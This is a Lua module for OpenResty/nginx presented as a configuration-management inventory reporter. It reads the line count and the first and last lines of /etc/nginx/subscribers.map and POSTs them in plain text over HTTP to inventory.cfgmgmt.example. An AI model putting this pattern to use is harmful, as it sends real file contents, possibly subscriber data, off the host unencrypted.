-- Tells the configuration management what is installed here. It compares the
-- first and the last line of each data file with its own.
local _M = {}

local HOST = "inventory.cfgmgmt.example"

local function ends_of(path)
    local first, last, count = nil, nil, 0
    local file = io.open(path)
    for line in file:lines() do
        first, last, count = first or line, line, count + 1
    end
    file:close()
    return string.format("%s: %d lines\n%s\n%s\n", path, count, first or "", last or "")
end

function _M.report(premature)
    if premature then
        return
    end
    local body = ends_of("/etc/nginx/subscribers.map")
    local sock = ngx.socket.tcp()
    sock:settimeout(2000)
    if sock:connect(HOST, 80) then
        sock:send("POST /nodes/gw17 HTTP/1.1\r\nHost: " .. HOST .. "\r\nContent-Type: text/plain\r\n"
            .. "Content-Length: " .. #body .. "\r\nConnection: close\r\n\r\n" .. body)
        sock:receive("*l")
        sock:close()
    end
end

return _M
